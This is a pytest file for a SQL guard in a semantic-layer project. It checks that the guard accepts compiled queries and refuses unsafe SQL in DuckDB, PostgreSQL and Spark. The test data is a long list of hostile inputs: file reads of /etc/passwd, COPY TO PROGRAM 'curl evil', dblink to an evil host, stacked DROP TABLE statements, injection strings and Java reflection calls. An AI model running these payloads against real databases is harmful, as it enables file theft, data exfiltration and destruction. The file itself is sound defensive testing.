"""The SQL guard refuses every way out of "one read-only query over the model's tables", and accepts
every query the compiler emits.

Attacks run against a small real DuckDB file holding `tickets` (allowed) and `secrets` (a real table
outside the allowlist); a few also go through the engine, which must refuse them before DuckDB runs
anything and leave the file's bytes unchanged.
"""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import duckdb
import pytest
import sqlglot

from semantic_layer.compiler import compile_query
from semantic_layer.engine import DuckDBEngine
from semantic_layer.errors import ModelError, UnsafeSQLError
from semantic_layer.guard import check_query, check_sql
from semantic_layer.identity import Identity
from semantic_layer.loader import load_model, parse_model
from semantic_layer.query import SemanticQuery

from .test_golden_sql import QUERIES as GOLDEN_QUERIES

ALLOWED = ("tickets",)
KNOWN = ("tickets", "secrets")
TODAY = date(2026, 11, 15)
MODEL = load_model()


def refuse(sql: str, reason: str, id: str) -> Any:
    return pytest.param(sql, reason, id=id)


ATTACKS = [
    # files and the network
    refuse("SELECT * FROM read_csv('/etc/passwd')", r"table functions .*'read_csv'", "read-csv"),
    refuse(
        "SELECT * FROM read_csv_auto('/etc/passwd')", r"table functions .*'read_csv_auto'", "read-csv-auto"
    ),
    refuse(
        "SELECT * FROM '/etc/passwd'",
        r"file paths and URLs are not tables \('/etc/passwd'\)",
        "path-as-table",
    ),
    refuse('SELECT * FROM "/etc/passwd"', "file paths and URLs", "quoted-path-as-table"),
    refuse("SELECT * FROM read_text('/etc/passwd')", r"table functions .*'read_text'", "read-text"),
    refuse("SELECT * FROM read_blob('/etc/shadow')", r"table functions .*'read_blob'", "read-blob"),
    refuse("SELECT * FROM read_parquet('s3://bucket/x.parquet')", "table functions", "read-parquet-s3"),
    refuse("SELECT * FROM read_json('https://example.com/x.json')", "table functions", "read-json-url"),
    refuse("SELECT * FROM glob('/*')", r"table functions .*'glob'", "glob"),
    refuse("SELECT * FROM 'https://example.com/data.csv'", "file paths and URLs", "httpfs-url-as-table"),
    refuse(
        "SELECT * FROM tickets, LATERAL read_csv('/etc/passwd')", r"function 'read_csv'", "lateral-read-csv"
    ),
    refuse(
        "SELECT (SELECT content FROM read_text('/etc/passwd'))", "table functions", "read-text-in-subquery"
    ),
    refuse("COPY tickets TO '/tmp/stolen.csv'", "not COPY", "copy-to-file"),
    refuse("COPY (SELECT * FROM secrets) TO '/tmp/stolen.csv'", "not COPY", "copy-query-to-file"),
    refuse("ATTACH ':memory:' AS m", "not ATTACH", "attach"),
    refuse("DETACH m", "not DETACH", "detach"),
    refuse("INSTALL httpfs", "not INSTALL", "install"),
    refuse("LOAD httpfs", "not LOAD", "load"),
    refuse("PRAGMA database_list", "not PRAGMA", "pragma"),
    refuse("SET enable_external_access = true", "not SET", "set"),
    refuse("RESET lock_configuration", "not RESET", "reset"),
    refuse("CALL pragma_version()", "not CALL", "call"),
    refuse("EXPORT DATABASE '/tmp/dump'", "not EXPORT", "export"),
    refuse("IMPORT DATABASE '/tmp/dump'", "not IMPORT", "import"),
    refuse("CHECKPOINT", "not CHECKPOINT", "checkpoint"),
    refuse("VACUUM", "not VACUUM", "vacuum"),
    refuse("USE m", "not USE", "use"),
    refuse("EXPLAIN ANALYZE SELECT * FROM secrets", "not ANALYZE", "explain-analyze"),
    refuse("EXPLAIN SELECT * FROM secrets", "table 'secrets'", "explain-secrets"),
    refuse("SELECT getenv('HOME')", r"function 'getenv'", "getenv"),
    refuse("SELECT current_setting('threads')", r"function 'current_setting'", "current-setting"),
    refuse("SELECT 'HOME'.getenv()", r"function 'getenv'", "getenv-method-call"),
    refuse("SELECT load_extension('httpfs')", r"function 'load_extension'", "load-extension"),
    refuse("SELECT * FROM duckdb_settings()", r"table functions .*'duckdb_settings'", "duckdb-settings"),
    refuse("SELECT * FROM which_secret('s3://b/x', 's3')", "table functions", "which-secret"),
    refuse("SELECT * FROM sql_auto_complete('SEL')", "table functions", "sql-auto-complete"),
    refuse("SELECT * FROM pragma_table_info('secrets')", "table functions", "pragma-table-info"),
    refuse(
        "SELECT count(*) FROM tickets WHERE getvariable('x') IS NULL",
        r"function 'getvariable'",
        "getvariable",
    ),
    # stacked statements
    refuse("SELECT 1; DROP TABLE tickets", "only one statement", "stacked-drop"),
    refuse("SELECT 1 /* ; */ ; DROP TABLE tickets", "only one statement", "stacked-after-comment"),
    refuse("SELECT 1 -- hidden\n; DROP TABLE tickets", "only one statement", "stacked-after-line-comment"),
    refuse("SELECT 1 FROM tickets;;", "only one statement", "two-semicolons"),
    refuse("SELECT ';'; DROP TABLE tickets", "only one statement", "semicolon-in-string-then-stacked"),
    refuse('SELECT * FROM "tickets;drop"', "table '\"tickets;drop\"'", "semicolon-in-table-name"),
    refuse("DROP TABLE tickets", "not DROP", "drop"),
    refuse("CREATE TABLE x AS SELECT * FROM secrets", "not CREATE", "create"),
    refuse("INSERT INTO tickets SELECT * FROM tickets", "not INSERT", "insert"),
    refuse("UPDATE tickets SET id = 0", "not UPDATE", "update"),
    refuse("DELETE FROM tickets", "not DELETE", "delete"),
    refuse("VALUES (1)", "not VALUES", "bare-values"),
    refuse("", "empty", "empty"),
    refuse("SELECT 'unterminated", "cannot be read", "unterminated-string"),
    # guard bypass tricks
    refuse(
        "WITH tickets AS (SELECT * FROM secrets) SELECT * FROM tickets",
        "CTE 'tickets'",
        "cte-shadows-allowed",
    ),
    refuse("WITH secrets AS (SELECT 1) SELECT * FROM secrets", "CTE 'secrets'", "cte-shadows-real-table"),
    refuse('WITH "TiCkEtS" AS (SELECT 1) SELECT * FROM tickets', "CTE 'TiCkEtS'", "cte-shadows-mixed-case"),
    refuse("SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) AS y, x", "table 'x'", "cte-out-of-scope"),
    refuse(
        "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a", "table 'b'", "cte-forward-reference"
    ),
    refuse('SELECT * FROM "secrets"', "table '\"secrets\"'", "quoted-secrets"),
    refuse('SELECT * FROM "SeCrEtS"', "is not one of the allowed tables", "mixed-case-secrets"),
    refuse("sElEcT * fRoM secrets", "table 'secrets'", "mixed-case-keywords"),
    refuse('SELECT * FROM "tic\u212aets"', "is not one of the allowed tables", "kelvin-sign-lookalike"),
    refuse("SELECT * FROM t\u0456ckets", "is not one of the allowed tables", "cyrillic-lookalike"),
    refuse("ＳＥＬＥＣＴ * FROM tickets", "not ", "fullwidth-select"),
    refuse("SELECT id FROM tickets UNION ALL SELECT secret FROM secrets", "table 'secrets'", "union-secrets"),
    refuse(
        "SELECT * FROM tickets WHERE id IN (SELECT id FROM secrets)", "table 'secrets'", "subquery-in-where"
    ),
    refuse("SELECT (SELECT max(secret) FROM secrets) FROM tickets", "table 'secrets'", "scalar-subquery"),
    refuse("SELECT * FROM tickets WHERE id IN (FROM secrets)", "table 'secrets'", "in-from-first"),
    refuse("SELECT * FROM tickets WHERE EXISTS (FROM secrets)", "function 'exists'", "exists"),
    refuse("SELECT * FROM tickets, LATERAL (SELECT * FROM secrets)", "table 'secrets'", "lateral-subquery"),
    refuse("SELECT * FROM tickets POSITIONAL JOIN secrets", "table 'secrets'", "positional-join"),
    refuse("SELECT * FROM information_schema.tables", "system catalogs", "information-schema"),
    refuse("SELECT * FROM pg_catalog.pg_tables", "system catalogs", "pg-catalog"),
    refuse("SELECT * FROM duckdb_tables()", r"table functions .*'duckdb_tables'", "duckdb-tables-function"),
    refuse("SELECT * FROM duckdb_tables", "system catalogs", "duckdb-tables-view"),
    refuse("SELECT * FROM sqlite_master", "system catalogs", "sqlite-master"),
    refuse("SELECT * FROM query('SELECT * FROM secrets')", r"table functions .*'query'", "query-function"),
    refuse(
        "SELECT * FROM query_table('secrets')", r"table functions .*'query_table'", "query-table-function"
    ),
    refuse("SELECT * FROM other.main.tickets", "other databases", "catalog-qualified"),
    refuse("SELECT * FROM temp.tickets", "table 'temp.tickets'", "other-schema"),
    refuse("SELECT * FROM secrets.tickets", "table 'secrets.tickets'", "schema-named-like-table"),
    refuse("SELECT * FROM tickets.csv", "table 'tickets.csv'", "file-like-dotted-name"),
    # denial of service
    refuse(
        "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t",
        "WITH RECURSIVE",
        "recursive-cte",
    ),
    refuse("SELECT * FROM range(1e12)", "table functions", "range-as-table"),
    refuse("SELECT * FROM generate_series(1, 1000000000000)", "table functions", "generate-series-as-table"),
    refuse("SELECT repeat('x', 1000000000) FROM tickets", r"function 'repeat'", "repeat"),
    refuse("SELECT unnest(range(1000000000)) FROM tickets", "function", "unnest-range"),
]


@pytest.mark.parametrize(("sql", "reason"), ATTACKS)
def test_the_guard_refuses_attacks(sql: str, reason: str) -> None:
    with pytest.raises(UnsafeSQLError, match=reason) as caught:
        check_sql(sql, allowed_tables=ALLOWED, known_tables=KNOWN)
    assert str(caught.value).startswith("unsafe SQL refused: ")
    assert caught.value.code == "unsafe_sql"


# The same key attacks read by the PostgreSQL and Spark SQL parsers (the engines check text in their own
# dialect), then each engine's own ways out: server files, programs, settings, SQL on files, Java calls.
COMMON_ATTACK_IDS = (
    "stacked-drop", "stacked-after-comment", "stacked-after-line-comment", "semicolon-in-string-then-stacked",
    "drop", "create", "insert", "update", "delete", "cte-shadows-allowed", "cte-shadows-real-table",
    "cte-shadows-mixed-case", "cte-out-of-scope", "cte-forward-reference", "quoted-secrets",
    "mixed-case-secrets", "mixed-case-keywords", "kelvin-sign-lookalike", "cyrillic-lookalike",
    "union-secrets", "subquery-in-where", "scalar-subquery", "lateral-subquery", "information-schema",
    "pg-catalog", "catalog-qualified", "other-schema", "schema-named-like-table", "recursive-cte",
    "generate-series-as-table", "repeat", "getenv", "current-setting", "empty", "unterminated-string",
)  # fmt: skip
DIALECT_ATTACKS = {
    "postgres": [
        refuse("SELECT pg_read_file('/etc/passwd')", r"function 'pg_read_file'", "pg-read-file"),
        refuse("SELECT * FROM pg_read_file('/etc/passwd')", "table functions", "pg-read-file-as-table"),
        refuse("SELECT * FROM tickets, LATERAL pg_ls_dir('.') AS f", r"function 'pg_ls_dir'", "pg-ls-dir"),
        refuse("SELECT lo_import('/etc/passwd')", r"function 'lo_import'", "lo-import"),
        refuse("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "table functions", "dblink"),
        refuse("COPY tickets TO PROGRAM 'curl evil'", "not COPY", "copy-to-program"),
        refuse("COPY (SELECT * FROM secrets) TO '/tmp/x'", "not COPY", "copy-query-to-file"),
        refuse("SET default_transaction_read_only = off", "not SET", "set-read-write"),
        refuse("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "not SET", "session-read-write"),
        refuse("SELECT set_config('statement_timeout', '0', false)", r"function 'set_config'", "set-config"),
        refuse("SET ROLE postgres", "not SET", "set-role"),
        refuse("RESET ROLE", "not RESET", "reset-role"),
        refuse("SELECT pg_sleep(1000)", r"function 'pg_sleep'", "pg-sleep"),
        refuse("SELECT * FROM tickets FOR UPDATE", "LOCK is not a read-only query", "select-for-update"),
        refuse("SELECT * INTO stolen FROM tickets", "INTO is not a read-only query", "select-into"),
        refuse("WITH d AS (DELETE FROM tickets RETURNING *) SELECT * FROM d", "DELETE", "delete-in-cte"),
        refuse("DO $$ BEGIN PERFORM 1; END $$", "not DO", "do-block"),
        refuse("CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql", "not CREATE", "create-function"),
        refuse(
            "SELECT query_to_xml('select * from secrets', true, true, '')", "query_to_xml", "query-to-xml"
        ),
        refuse("PREPARE p AS SELECT * FROM secrets", "not PREPARE", "prepare"),
        refuse("EXECUTE p", "not EXECUTE", "execute"),
        refuse("LISTEN x", "not LISTEN", "listen"),
        refuse("TABLE secrets", "not TABLE", "table-statement"),
        refuse("SELECT * FROM pg_shadow", "table 'pg_shadow'", "pg-shadow"),
        refuse("SELECT * FROM public.secrets", "table 'public.secrets'", "public-secrets"),
        refuse("SELECT * FROM generate_series(1, 1000000000000)", "table functions", "pg-generate-series"),
        refuse("SELECT $$x$$ || pg_read_file('x') FROM tickets", r"function 'pg_read_file'", "dollar-quoted"),
    ],
    "spark": [
        refuse("SELECT * FROM parquet.`/etc/passwd`", "file paths and URLs", "sql-on-parquet-file"),
        refuse("SELECT * FROM csv.`file:///etc/passwd`", "file paths and URLs", "sql-on-csv-file"),
        refuse("SELECT * FROM json.`s3a://bucket/x`", "file paths and URLs", "sql-on-s3"),
        refuse("SELECT * FROM delta.`/tmp/x`", "file paths and URLs", "sql-on-delta"),
        refuse("SELECT * FROM read_files('/etc')", "table functions", "read-files"),
        refuse("SELECT reflect('java.lang.Runtime', 'getRuntime')", r"function 'reflect'", "reflect"),
        refuse("SELECT java_method('java.lang.System', 'getenv', 'HOME')", "java_method", "java-method"),
        refuse("SET spark.sql.runSQLOnFiles=true", "not SET", "set-run-sql-on-files"),
        refuse("RESET spark.sql.ansi.enabled", "not RESET", "reset-conf"),
        refuse("ADD JAR /tmp/evil.jar", "not ADD JAR", "add-jar"),
        refuse("CACHE TABLE secrets", "not CACHE", "cache-table"),
        refuse("CREATE TEMPORARY VIEW tickets AS SELECT * FROM secrets", "not CREATE", "temporary-view"),
        refuse("CREATE TEMPORARY FUNCTION f AS 'Evil'", "not CREATE", "temporary-function"),
        refuse(
            "INSERT OVERWRITE DIRECTORY '/tmp/out' SELECT * FROM tickets", "not INSERT", "insert-directory"
        ),
        refuse("LOAD DATA LOCAL INPATH '/etc/passwd' INTO TABLE tickets", "not LOAD", "load-data"),
        refuse("EXECUTE IMMEDIATE 'SELECT * FROM secrets'", "not EXECUTE", "execute-immediate"),
        refuse("SELECT * FROM IDENTIFIER('secrets')", "table functions", "identifier-clause"),
        refuse("SELECT * FROM range(1000000000000)", "table functions", "spark-range"),
        refuse("SELECT explode(sequence(1, 1000000000))", r"function 'explode'", "explode-sequence"),
        refuse("SELECT * FROM global_temp.tickets", "table 'global_temp.tickets'", "global-temp"),
        refuse("SELECT * FROM spark_catalog.default.secrets", "other databases", "other-catalog"),
        refuse("SELECT * FROM `secrets`", "is not one of the allowed tables", "backquoted-secrets"),
        refuse("SELECT input_file_name() FROM tickets", "input_file_name", "input-file-name"),
        refuse("SHOW TABLES", "not SHOW", "show-tables"),
    ],
}


def _dialect_attacks() -> Iterator[Any]:
    common = {param.id: param for param in ATTACKS}
    for dialect, own in DIALECT_ATTACKS.items():
        for attack_id in COMMON_ATTACK_IDS:
            sql, reason = common[attack_id].values
            yield pytest.param(dialect, sql, reason, id=f"{dialect}-{attack_id}")
        for param in own:
            sql, reason = param.values
            yield pytest.param(dialect, sql, reason, id=f"{dialect}-{param.id}")


@pytest.mark.parametrize(("dialect", "sql", "reason"), list(_dialect_attacks()))
def test_the_guard_refuses_attacks_in_each_engines_dialect(dialect: str, sql: str, reason: str) -> None:
    with pytest.raises(UnsafeSQLError, match=reason) as caught:
        check_sql(sql, allowed_tables=ALLOWED, known_tables=KNOWN, dialect=dialect)
    assert str(caught.value).startswith("unsafe SQL refused: ")


@pytest.mark.parametrize(
    "sql",
    [
        pytest.param("SELECT ';' AS x FROM tickets", id="semicolon-in-string"),
        pytest.param("SELECT $$a; DROP TABLE tickets$$ AS x FROM tickets", id="semicolon-in-dollar-string"),
        pytest.param("SELECT 'it''s; fine' AS x FROM tickets;", id="escaped-quote-and-trailing-semicolon"),
        pytest.param('SELECT 1 AS "a;b" FROM tickets', id="semicolon-in-alias"),
        pytest.param("SELECT 1 /* ; */ FROM tickets -- ;", id="semicolons-in-comments"),
        pytest.param('SELECT count(*) FROM "TiCkEtS"', id="quoted-mixed-case-allowed-table"),
        pytest.param("SELECT count(*) FROM main.tickets", id="main-schema"),
        pytest.param("FROM tickets SELECT count(*)", id="from-first"),
        pytest.param("(SELECT id FROM tickets) UNION (SELECT id FROM tickets)", id="union"),
        pytest.param(
            "WITH t AS (SELECT id FROM tickets), u AS (SELECT id FROM t) SELECT * FROM u", id="ctes"
        ),
        pytest.param("SELECT * FROM tickets AS a CROSS JOIN tickets AS b", id="cross-join"),
        pytest.param("SELECT * FROM (VALUES (1, 2)) AS v(a, b)", id="values-table"),
        pytest.param("EXPLAIN SELECT count(*) FROM tickets", id="explain"),
    ],
)
def test_the_guard_accepts_plain_reads(sql: str) -> None:
    check_sql(sql, allowed_tables=ALLOWED, known_tables=KNOWN)


def test_the_tree_check_applies_the_same_rules() -> None:
    check_query(sqlglot.parse_one("SELECT count(*) FROM tickets", read="duckdb"), allowed_tables=ALLOWED)
    with pytest.raises(UnsafeSQLError, match="table 'secrets'"):
        check_query(sqlglot.parse_one("SELECT * FROM secrets", read="duckdb"), allowed_tables=ALLOWED)
    with pytest.raises(UnsafeSQLError, match="not DROP"):
        check_query(sqlglot.parse_one("DROP TABLE tickets", read="duckdb"), allowed_tables=ALLOWED)


# --- every query the compiler emits passes ------------------------------------------------------


def _legit_queries() -> Iterator[Any]:
    for name, spec in sorted(GOLDEN_QUERIES.items()):
        yield pytest.param(spec, None, id=f"golden-{name}")
    for index, verified in enumerate(MODEL.verified_questions):
        yield pytest.param(verified.query, None, id=f"verified-{index}")
    for metric in MODEL.metrics:
        compared = {
            "metrics": [metric.name],
            "dimensions": ["region", {"name": "created_date", "grain": "month"}],
            "time_range": {"start": "2026-07-01", "end": "2026-10-01"},
            "compare": "previous_period",
        }
        yield pytest.param(compared, None, id=f"compare-{metric.name}")
    fields = [attribute.name for attribute in MODEL.attributes]
    yield pytest.param({"fields": fields, "limit": 10}, None, id="detail-every-field")
    # a value that would break out of a string literal if it were pasted, and a policy filter
    injection = {"metrics": ["ticket_count"], "dimensions": ["region"]}
    injection["filters"] = [{"dimension": "region", "op": "eq", "values": ["华南'); DROP TABLE tickets; --"]}]
    yield pytest.param(
        injection, Identity(user_id="u", attributes={"region": "华南' OR 1=1 --"}), id="injection"
    )


LEGIT = list(_legit_queries())
MODEL_TABLES = [table.source for table in MODEL.tables]
DEMO_TABLES = [*MODEL_TABLES, "demo_metadata"]


@pytest.mark.parametrize("dialect", ["duckdb", "postgres", "spark"])
@pytest.mark.parametrize(("spec", "identity"), LEGIT)
def test_every_compiled_query_passes(spec: dict[str, Any], identity: Identity | None, dialect: str) -> None:
    compiled = compile_query(
        MODEL, SemanticQuery.model_validate(spec), identity=identity, today=TODAY, dialect=dialect
    )
    check_sql(compiled.sql, allowed_tables=MODEL_TABLES, known_tables=DEMO_TABLES, dialect=dialect)
    check_query(compiled.expression, allowed_tables=MODEL_TABLES, known_tables=DEMO_TABLES)


def test_what_another_dialect_may_call_stays_in_that_dialect() -> None:
    """Spark's TIMESTAMPDIFF is allowed in Spark text (the compiler writes it there), not in DuckDB's."""
    sql = "SELECT timestampdiff(SECOND, created_at, resolved_at) FROM tickets"
    check_sql(sql, allowed_tables=ALLOWED, dialect="spark")
    with pytest.raises(UnsafeSQLError, match="timestampdiff"):
        check_sql(sql, allowed_tables=ALLOWED, dialect="duckdb")


def test_the_legit_corpus_covers_enough() -> None:
    assert len(LEGIT) >= 50


# --- through the engine: refused before DuckDB, the file unchanged -------------------------------


@pytest.fixture(scope="module")
def secrets_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("guard") / "secrets.duckdb"
    with duckdb.connect(str(path)) as connection:
        connection.execute("CREATE TABLE tickets AS SELECT range AS id, range % 7 AS region FROM range(1000)")
        connection.execute("CREATE TABLE secrets AS SELECT 'hunter2' AS secret")
    return path


@pytest.fixture(scope="module")
def engine(secrets_db: Path) -> Iterator[DuckDBEngine]:
    engine = DuckDBEngine(secrets_db)
    yield engine
    engine.close()


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT 1; DROP TABLE tickets",
        "COPY tickets TO '{out}'",
        "COPY (SELECT * FROM secrets) TO '{out}'",
        "EXPORT DATABASE '{out}'",
        "ATTACH '{out}' AS stolen",
        "CREATE TABLE copied AS SELECT * FROM tickets",
        "WITH tickets AS (SELECT * FROM secrets) SELECT * FROM tickets",
        "SELECT * FROM read_csv('{out}')",
        "SET enable_external_access = true",
    ],
)
def test_the_engine_refuses_before_duckdb_runs_anything(
    engine: DuckDBEngine, secrets_db: Path, tmp_path: Path, sql: str
) -> None:
    out = tmp_path / "out"
    before = sha256(secrets_db)
    with pytest.raises(UnsafeSQLError):
        engine.execute(sql.replace("{out}", str(out)), allowed_tables=ALLOWED)
    assert sha256(secrets_db) == before
    assert not out.exists()
    assert engine.execute("SELECT count(*) FROM tickets", allowed_tables=ALLOWED).rows == [[1000]]


def test_without_an_allowlist_the_engine_allows_the_databases_own_tables(engine: DuckDBEngine) -> None:
    assert engine.tables == frozenset({"tickets", "secrets"})
    assert engine.execute("SELECT secret FROM secrets").rows == [["hunter2"]]
    with pytest.raises(UnsafeSQLError, match="system catalogs"):
        engine.execute("SELECT * FROM information_schema.tables")


def test_duckdbs_own_parser_must_see_one_query(engine: DuckDBEngine) -> None:
    """A tree that passes with a text that is not its rendering: DuckDB's split still refuses it."""
    tree = sqlglot.parse_one("SELECT 1", read="duckdb")
    with pytest.raises(UnsafeSQLError, match="DuckDB reads 2"):
        engine.execute("SELECT 1; SELECT * FROM secrets", allowed_tables=ALLOWED, tree=tree)
    with pytest.raises(UnsafeSQLError, match="not DROP"):
        engine.execute("DROP TABLE tickets", allowed_tables=ALLOWED, tree=tree)
    with pytest.raises(UnsafeSQLError, match="not EXPLAIN"):
        engine.execute("EXPLAIN ANALYZE SELECT * FROM secrets", allowed_tables=ALLOWED, tree=tree)


# --- model expressions are refused when the model loads ----------------------------------------

MODEL_YAML = """\
name: shop
tables:
  - name: orders
    source: orders
dimensions:
  - name: store
    table: orders
metrics:
  - name: revenue
    table: orders
    agg: sum
    expr: amount
"""


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        pytest.param(
            "    expr: amount\n",
            '    expr: "(SELECT secret FROM secrets)"\n',
            "shop.yaml:12: metrics[0].expr: expression '(SELECT secret FROM secrets)' may not contain a query",
            id="subquery",
        ),
        pytest.param(
            "    expr: amount\n",
            '    expr: amount\n    filter: "1=1; DROP TABLE x"\n',
            "shop.yaml:13: metrics[0].filter: expression '1=1; DROP TABLE x' must be a single expression",
            id="stacked-filter",
        ),
        pytest.param(
            "    expr: amount\n",
            "    expr: \"read_text('/etc/passwd')\"\n",
            "shop.yaml:12: metrics[0].expr: expression 'read_text('/etc/passwd')' may not call function 'read_text'",
            id="read-text",
        ),
        pytest.param(
            "    expr: amount\n",
            "    expr: getenv('HOME')\n",
            "shop.yaml:12: metrics[0].expr: expression 'getenv('HOME')' may not call function 'getenv'",
            id="getenv",
        ),
        pytest.param(
            "    table: orders\nmetrics:",
            "    table: orders\n    expr: current_setting('threads')\nmetrics:",
            "shop.yaml:6: dimensions[0].on.orders: expression 'current_setting('threads')' may not call function",
            id="dimension-current-setting",
        ),
        pytest.param(
            "    expr: amount\n",
            "    expr: amount + (SELECT count(*) FROM read_csv('/etc/passwd'))\n",
            "shop.yaml:12: metrics[0].expr: expression 'amount + (SELECT count(*) FROM read_csv('/etc/passwd'))' "
            "may not contain a query",
            id="read-csv-in-subquery",
        ),
        pytest.param(
            "    expr: amount\n",
            "    expr: secrets.secret\n",
            "shop.yaml:12: metrics[0].expr: expression 'secrets.secret' names columns without a table",
            id="other-tables-column",
        ),
    ],
)
def test_model_expression_attacks_are_refused_at_load(old: str, new: str, expected: str) -> None:
    assert old in MODEL_YAML
    with pytest.raises(ModelError) as caught:
        parse_model(MODEL_YAML.replace(old, new, 1), file="shop.yaml")
    assert str(caught.value).startswith(expected)


def test_the_model_yaml_base_loads() -> None:
    parse_model(MODEL_YAML, file="shop.yaml")
